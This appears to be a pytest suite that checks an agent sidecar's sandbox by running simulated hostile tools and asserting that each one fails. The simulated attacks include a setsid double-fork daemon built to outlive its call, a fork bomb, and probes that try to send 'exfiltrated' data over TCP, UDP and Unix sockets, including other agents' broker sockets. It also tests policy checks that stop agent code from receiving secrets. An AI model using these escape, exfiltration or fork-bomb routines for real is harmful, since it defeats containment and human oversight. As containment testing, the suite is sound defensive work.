"""Containment of exec and mcp tools, through the real sidecar, with real processes.

A hostile agent's tool tries to outlive its call (setsid, double fork), to
fork-bomb the node, to reach the network (TCP, UDP, abstract and pathname Unix
sockets, other agents' broker sockets) and to learn a secret by running its own
code next to it. Each attempt must fail. Where this kernel lacks a feature the
sandbox needs, the test proves that the tool is refused instead, then skips.
"""

from __future__ import annotations

import asyncio
import contextlib
import errno
import http.server
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tether.core.errors import ConfigError, PolicyDenied, TetherError
from tether.core.policy import parse_policy
from tether.sidecar import sandbox
from tether.sidecar.redaction import Redactor
from tether.sidecar.tools import ToolContext, build_tool, run_tool
from tether.sidecar.tools.exec import SANDBOX_SCRIPT
from tether.testing import start_control, start_sidecar

SERVER = Path(__file__).resolve().parent.parent / "mcp_servers" / "echo_server.py"
MAX_PROCESSES = 24


# --------------------------------------------------------------------------- kernel support


def _probe_isolation() -> str | None:
    """None when the sandbox can confine a tool on this machine, else the launcher's reason."""
    work = Path(tempfile.mkdtemp(prefix="tether-probe-"))
    config = {"workspace": str(work), "write_paths": [str(work)], "env_names": []}
    try:
        done = subprocess.run(
            [sys.executable, "-I", "-S", SANDBOX_SCRIPT, json.dumps(config), "/bin/true"],
            capture_output=True,
            timeout=30,
            check=False,
        )
    finally:
        shutil.rmtree(work, ignore_errors=True)
    if done.returncode == 0:
        return None
    return done.stderr.decode("utf-8", "replace").strip() or f"launcher exit {done.returncode}"


ISOLATION_MISSING = _probe_isolation()


async def _refused_or_continue(tmp_path: Path) -> None:
    """Where the kernel lacks isolation: prove an exec tool is refused, then skip."""
    if ISOLATION_MISSING is None:
        return
    policy = parse_policy('version = 1\n[tools.t]\nadapter = "exec"\n[tools.t.exec]\n'
                          'argv = ["/bin/true"]\n[queues.q]\ntools = ["t"]\n')  # fmt: skip
    ctx = ToolContext(task_id="t", attempt=1, fencing_token=1, agent_id="a", workspace=tmp_path)
    with pytest.raises(PolicyDenied, match="sandbox refused to start"):
        await run_tool(build_tool(policy.tool("t")), ctx, {}, Redactor())
    pytest.skip(f"this kernel cannot confine tools (they are refused): {ISOLATION_MISSING}")


# --------------------------------------------------------------------------- set-up


def _policy(*, allow: str = "", extra_tools: str = "") -> str:
    return f"""
version = 1
[agents.alice]
queues = ["work", "net"]
[tools.run]
adapter = "exec"
timeout_ms = 20000
[tools.run.exec]
argv = ["python3", "-c", "{{code}}"]
params = ["code"]
env = {{ LANG = "C.UTF-8" }}
max_processes = {MAX_PROCESSES}
[tools.slow]
adapter = "exec"
timeout_ms = 1500
[tools.slow.exec]
argv = ["python3", "-c", "{{code}}"]
params = ["code"]
[tools.meta]
adapter = "mcp"
[tools.meta.mcp]
argv = ["python3", "{SERVER}"]
read_paths = ["{SERVER.parent}"]
{extra_tools}
[queues.work]
tools = ["run", "slow", "meta"]
[queues.net]
tools = ["run"]
network_allowlist = [{allow}]
"""


@dataclass
class Env:
    """A control plane, a sidecar, alice's client and the task she holds."""

    agent: Any
    task: Any
    workspace: Path
    broker_socket: Path

    async def run(self, code: str, tool: str = "run") -> dict[str, Any]:
        result = await self.agent.call_tool(self.task.task_id, tool, {"code": code})
        assert isinstance(result.result, dict), result
        return result.result


@contextlib.asynccontextmanager
async def _env(tmp_path: Path, *, queue: str = "work", allow: str = "") -> AsyncIterator[Env]:
    async with (
        start_control(tmp_path) as control,
        start_sidecar(tmp_path, control.address) as side,
        side.agent("alice") as agent,
    ):
        await control.client.put_policy(_policy(allow=allow))
        await control.client.submit(queue, b"{}")
        task = await agent.claim(queue, wait_ms=2000)
        assert task is not None
        workspace = side.state_dir / "workspaces" / task.task_id
        yield Env(agent, task, workspace, side.socket)


def _alive(pid: int) -> bool:
    """True while `pid` exists and is not a zombie."""
    try:
        with open(f"/proc/{pid}/stat", encoding="ascii") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except (FileNotFoundError, ProcessLookupError):
        return False


def _still_alive_after(pid: int, deadline_s: float) -> bool:
    """Polls until `pid` is dead (SIGKILL is asynchronous); True if it outlived the deadline."""
    end = time.monotonic() + deadline_s
    while _alive(pid) and time.monotonic() < end:
        time.sleep(0.02)
    return _alive(pid)


def _wait_file(path: Path, deadline_s: float = 10.0) -> str:
    end = time.monotonic() + deadline_s
    while not path.exists() or not path.read_text():
        if time.monotonic() > end:
            raise AssertionError(f"{path} never appeared")
        time.sleep(0.02)
    return path.read_text()


# A child that leaves its session and forks again: the grandchild (the classic
# daemon) writes its pid into the workspace and sleeps, far longer than the call.
ESCAPE = """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        with open("escapee.pid.tmp", "w") as f:
            f.write(str(os.getpid()))
        os.rename("escapee.pid.tmp", "escapee.pid")
        time.sleep(120)
        os._exit(0)
    os._exit(0)
while not os.path.exists("escapee.pid"):
    time.sleep(0.01)
"""


# --------------------------------------------------------------------------- process tree


async def test_setsid_grandchild_is_gone_when_the_call_ends(tmp_path: Path) -> None:
    """A grandchild that called setsid() and double-forked is dead as soon as the call returns."""
    await _refused_or_continue(tmp_path)
    async with _env(tmp_path) as env:
        result = await env.run(ESCAPE + "print('parent exits')")
        assert result["stdout"].strip() == "parent exits", result
        pid = int((env.workspace / "escapee.pid").read_text())
        assert not _alive(pid), f"the setsid grandchild {pid} outlived the call"


async def test_setsid_grandchild_is_gone_after_the_timeout(tmp_path: Path) -> None:
    """A call past its timeout is stopped with its whole tree, setsid escapees included."""
    await _refused_or_continue(tmp_path)
    async with _env(tmp_path) as env:
        with pytest.raises(TetherError) as info:
            await env.run(ESCAPE + "time.sleep(120)", tool="slow")
        assert type(info.value).__name__ == "ToolTimeout", info.value
        pid = int((env.workspace / "escapee.pid").read_text())
        assert not _alive(pid), f"the setsid grandchild {pid} outlived the timeout"


async def test_lease_end_stops_a_running_tool_and_its_escapees(tmp_path: Path) -> None:
    """Completing the task while a call runs kills the call's whole tree at once."""
    await _refused_or_continue(tmp_path)
    async with _env(tmp_path) as env:
        call = asyncio.ensure_future(env.run(ESCAPE + "time.sleep(120)"))
        pid_text = await asyncio.to_thread(_wait_file, env.workspace / "escapee.pid")
        pid = int(pid_text)
        assert _alive(pid)
        started = time.monotonic()
        await env.agent.complete(env.task.task_id)
        with contextlib.suppress(TetherError):
            await asyncio.wait_for(call, 10)
        assert time.monotonic() - started < 10
        assert not await asyncio.to_thread(_still_alive_after, pid, 5.0), (
            f"the setsid grandchild {pid} outlived the lease"
        )


async def test_fork_bomb_is_stopped_by_rlimit_nproc(tmp_path: Path) -> None:
    """RLIMIT_NPROC (max_processes) stops a fork bomb, and every bomb child dies with the call."""
    await _refused_or_continue(tmp_path)
    code = """
import json, os, time
pids, error = [], ""
try:
    for _ in range(10000):
        pid = os.fork()
        if pid == 0:
            time.sleep(120)
            os._exit(0)
        pids.append(pid)
except OSError as err:
    error = err.errno
print(json.dumps({"pids": pids, "errno": error}))
"""
    async with _env(tmp_path) as env:
        result = await env.run(code)
        seen = json.loads(result["stdout"])
        assert seen["errno"] == errno.EAGAIN, result
        assert 0 < len(seen["pids"]) < MAX_PROCESSES
        survivors = [pid for pid in seen["pids"] if _alive(pid)]
        assert not survivors


# --------------------------------------------------------------------------- network


@contextlib.contextmanager
def _listeners(tmp_path: Path, workspace: Path) -> Iterator[dict[str, Any]]:
    """Things on the node a tool must not reach (and one in its workspace it may)."""
    tcp = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    abstract_name = f"tether-test-{uuid.uuid4().hex}"
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind("\0" + abstract_name)
    abstract.listen()
    other_agent = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    other_path = tmp_path / "bob.sock"
    other_agent.bind(str(other_path))
    os.chmod(other_path, 0o777)
    other_agent.listen()
    workspace.mkdir(parents=True, exist_ok=True)
    local = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    cwd = os.getcwd()
    os.chdir(workspace)  # the full path can exceed sun_path
    try:
        local.bind("local.sock")
        os.chmod("local.sock", 0o777)
    finally:
        os.chdir(cwd)
    local.listen()
    things = [tcp, udp, abstract, other_agent, local]
    try:
        yield {
            "tcp": tcp.getsockname()[1],
            "udp": udp.getsockname()[1],
            "abstract": abstract_name,
            "other_agent": str(other_path),
            "sockets": {"tcp": tcp, "udp": udp, "abstract": abstract, "other": other_agent},
        }
    finally:
        for thing in things:
            thing.close()


PROBE = """
import errno, json, socket
out = {{}}
def attempt(name, fn):
    try:
        fn()
        out[name] = "ok"
    except OSError as err:
        out[name] = errno.errorcode.get(err.errno, str(err.errno))
def tcp(host):
    socket.create_connection((host, {tcp}), timeout=3).close()
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"exfiltrated", ("127.0.0.1", {udp}))
def unix(address):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(address)
    s.close()
attempt("tcp_loopback", lambda: tcp("127.0.0.1"))
attempt("udp", udp)
attempt("dns", lambda: socket.getaddrinfo("example.com", 443))
attempt("abstract", lambda: unix("\\0{abstract}"))
attempt("other_agent_socket", lambda: unix({other_agent!r}))
attempt("broker_socket", lambda: unix({broker!r}))
attempt("workspace_socket", lambda: unix("local.sock"))
print(json.dumps(out))
"""


def _nothing_arrived(sockets: dict[str, socket.socket]) -> None:
    for name in ("tcp", "abstract", "other"):
        sockets[name].setblocking(False)
        with pytest.raises(BlockingIOError):
            sockets[name].accept()
    sockets["udp"].setblocking(False)
    with pytest.raises(BlockingIOError):
        sockets["udp"].recv(100)


async def test_tool_without_network_grant_reaches_nothing(tmp_path: Path) -> None:
    """No grant: no TCP (even to 127.0.0.1), UDP, DNS, abstract or outside pathname sockets."""
    await _refused_or_continue(tmp_path)
    async with _env(tmp_path) as env:
        with _listeners(tmp_path, env.workspace) as node:
            code = PROBE.format(broker=str(env.broker_socket), **node)
            result = await env.run(code)
            seen = json.loads(result["stdout"])
            assert seen.pop("workspace_socket") == "ok", result  # a socket it may use works
            assert seen["other_agent_socket"] == "ENOENT"  # no such path in its world
            assert seen["broker_socket"] == "ENOENT"
            assert all(v != "ok" for v in seen.values()), seen
            _nothing_arrived(node["sockets"])


class _Hello(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = f"hello from {self.server.server_address[1]}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@contextlib.contextmanager
def _http_server() -> Iterator[int]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hello)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield int(server.server_address[1])
    finally:
        server.shutdown()
        server.server_close()


async def test_allowlist_grants_only_its_hosts_and_ports(tmp_path: Path) -> None:
    """With an allowlist, the granted host:port is reachable (via the proxy) and nothing else."""
    await _refused_or_continue(tmp_path)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp_port = udp.getsockname()[1]
    with _http_server() as granted, _http_server() as other, contextlib.closing(udp):
        code = f"""
import errno, json, os, socket, urllib.request
out = {{"proxy": os.environ.get("HTTPS_PROXY", "")}}
for name, port in (("granted", {granted}), ("other_port", {other})):
    try:
        out[name] = urllib.request.urlopen(f"http://127.0.0.1:{{port}}/", timeout=5).read().decode()
    except Exception as err:
        out[name] = str(getattr(err, "code", err))
def attempt(name, fn):
    try:
        fn()
        out[name] = "ok"
    except OSError as err:
        out[name] = errno.errorcode[err.errno]
attempt("direct", lambda: socket.create_connection(("127.0.0.1", {granted}), timeout=3))
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt("udp_out", lambda: udp.sendto(b"exfiltrated", ("192.0.2.1", 53)))
udp.sendto(b"exfiltrated", ("127.0.0.1", {udp_port}))  # its own loopback, not the node's
print(json.dumps(out))
"""
        async with _env(tmp_path, queue="net", allow=f'"127.0.0.1:{granted}"') as env:
            result = await env.run(code)
        udp.setblocking(False)
        with pytest.raises(BlockingIOError):
            udp.recv(100)
    seen = json.loads(result["stdout"])
    assert seen["proxy"].startswith("http://127.0.0.1:"), result
    assert seen["granted"] == f"hello from {granted}"
    assert seen["other_port"] == "403"
    assert seen["direct"] != "ok"  # only through the proxy, which checks the grant
    assert seen["udp_out"] == "ENETUNREACH"


# --------------------------------------------------------------------------- fencing


async def test_fencing_token_reaches_exec_and_mcp_tools(tmp_path: Path) -> None:
    """exec tools get TETHER_TASK_ID/TETHER_FENCING_TOKEN; mcp tools get them in _meta."""
    await _refused_or_continue(tmp_path)
    async with _env(tmp_path) as env:
        result = await env.run(
            "import json, os; print(json.dumps({k: v for k, v in os.environ.items() "
            "if k.startswith('TETHER_')}))"
        )
        assert json.loads(result["stdout"]) == {
            "TETHER_TASK_ID": env.task.task_id,
            "TETHER_FENCING_TOKEN": str(env.task.fencing_token),
        }
        meta = await env.agent.call_tool(env.task.task_id, "meta", {})
        assert json.loads(meta.result["content"][0]["text"]) == {
            "tether/task_id": env.task.task_id,
            "tether/fencing_token": env.task.fencing_token,
        }


# --------------------------------------------------------------------------- policy


@pytest.mark.parametrize(
    "argv",
    [
        '["python3", "-c", "{code}"]',
        '["sh", "-c", "{code}"]',
        '["node", "-e", "{code}"]',
        '["python3", "{code}"]',
        '["env", "LANG=C", "bash", "{code}"]',
        '["perl", "-e", "{code}"]',
    ],
)
def test_secret_for_a_tool_running_agent_code_is_refused(argv: str) -> None:
    """secret_env on a tool whose argv carries the agent's code fails validation, saying why."""
    text = f"""
version = 1
[credentials.db]
tools = ["run"]
[tools.run]
adapter = "exec"
[tools.run.exec]
argv = {argv}
params = ["code"]
secret_env = {{ DB_PASSWORD = "db" }}
[queues.q]
tools = ["run"]
"""
    with pytest.raises(ConfigError) as info:
        parse_policy(text)
    assert info.value.metadata["key"] == "tools.run.exec.secret_env"
    assert "code the agent supplies" in info.value.message
    assert "safety net, not a boundary" in info.value.message


def test_secret_for_fixed_code_with_agent_data_is_accepted() -> None:
    """A secret may go to fixed code that takes the agent's input as data."""
    text = """
version = 1
[credentials.db]
tools = ["run"]
[tools.run]
adapter = "exec"
[tools.run.exec]
argv = ["python3", "/opt/report.py", "{query}"]
params = ["query"]
secret_env = { DB_PASSWORD = "db" }
max_processes = 8
[queues.q]
tools = ["run"]
"""
    spec = parse_policy(text).tool("run").exec
    assert spec is not None
    assert spec.max_processes == 8


async def test_control_plane_refuses_such_a_policy(tmp_path: Path) -> None:
    """Applying a policy that hands a secret to agent code is refused, naming the key."""
    bad = _policy(
        extra_tools='[credentials.db]\ntools = ["leaky"]\n[tools.leaky]\nadapter = "exec"\n'
        '[tools.leaky.exec]\nargv = ["python3", "-c", "{code}"]\nparams = ["code"]\n'
        'secret_env = { DB_PASSWORD = "db" }\n'
    )
    async with start_control(tmp_path) as control:
        with pytest.raises(TetherError) as info:
            await control.client.put_policy(bad)
    assert "tools.leaky.exec.secret_env" in info.value.message
    assert "safety net, not a boundary" in info.value.message


def test_tether_env_names_are_reserved() -> None:
    """A policy cannot set TETHER_* variables: the sidecar sets them for fencing."""
    text = """
version = 1
[tools.run]
adapter = "exec"
[tools.run.exec]
argv = ["/bin/true"]
env = { TETHER_FENCING_TOKEN = "999" }
[queues.q]
tools = ["run"]
"""
    with pytest.raises(ConfigError, match="set by the sidecar"):
        parse_policy(text)


# --------------------------------------------------------------------------- refusal


def test_launcher_refuses_where_namespaces_are_forbidden(tmp_path: Path) -> None:
    """Where the kernel or container forbids the namespaces, the tool is refused, never run."""
    unshare = shutil.which("unshare")
    if unshare is None or subprocess.run([unshare, "-U", "true"], check=False).returncode:
        pytest.skip("cannot create a user namespace here to forbid nested ones")
    ws = tmp_path / "ws"
    ws.mkdir()
    config = {"workspace": str(ws), "write_paths": [str(ws)], "env_names": []}
    marker = ws / "ran"
    launcher = [sys.executable, "-I", "-S", SANDBOX_SCRIPT, json.dumps(config)]
    tool = ["/usr/bin/touch", str(marker)]
    # A user namespace (as a container would be) that allows no namespaces below it.
    script = 'echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"'
    done = subprocess.run(
        [unshare, "--user", "--map-root-user", "sh", "-c", script, "sh", *launcher, *tool],
        capture_output=True,
        timeout=30,
        check=False,
    )
    assert done.returncode == sandbox.SETUP_FAILED, done
    assert done.stderr.decode().startswith("tether-sandbox: cannot create the tool's own")
    assert not marker.exists()
